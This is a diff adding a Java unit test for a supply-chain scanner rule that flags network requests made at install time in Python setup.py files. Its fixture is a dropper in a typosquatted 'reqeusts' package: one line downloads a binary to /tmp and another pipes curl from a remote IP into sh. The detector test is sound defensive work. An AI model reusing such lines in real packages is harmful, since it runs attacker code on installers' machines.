@@ -383,4 +383,30 @@ class ContentRulesTest {
                 + "addr = socket.gethostbyname(host)\ntoken = os.urandom(8).hex()\n";
         assertThat(check(new DnsExfiltration(), "pkg/db.py", client)).isEmpty();
     }
+
+    @Test
+    void setupPyRunsAtInstallWithoutAnyCmdclass() {
+        String dropper = "import os, urllib.request\nfrom setuptools import setup\n"
+                + "urllib.request.urlretrieve('https://files.example.net/u.bin', '/tmp/u')\n"
+                + "os.system('curl -s https://203.0.113.7/x | sh')\n"
+                + "setup(name='reqeusts', version='1.0')\n";
+        List<Finding> findings = check(new ImportTimeSideEffects(), "reqeusts-1.0/setup.py", dropper);
+        assertThat(findings)
+                .extracting(Finding::severity, Finding::line)
+                .containsExactly(
+                        org.assertj.core.groups.Tuple.tuple(Severity.HIGH, 3),
+                        org.assertj.core.groups.Tuple.tuple(Severity.HIGH, 4));
+        assertThat(findings.getFirst().message())
+                .isEqualTo("setup.py makes a network request when pip builds or installs the package");
+
+        // What real setup.py files do at module level: the version from git, a version file exec'd, a publish helper.
+        String benign = "import os, subprocess, sys\nfrom setuptools import setup\n"
+                + "version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
+                + "exec(open('pkg/_version.py').read())\n"
+                + "if sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist upload')\n"
+                + "setup(name='pkg', version=version)\n";
+        assertThat(check(new ImportTimeSideEffects(), "pkg-1.0/setup.py", benign))
+                .extracting(Finding::severity)
+                .containsOnly(Severity.LOW);
+    }
 }
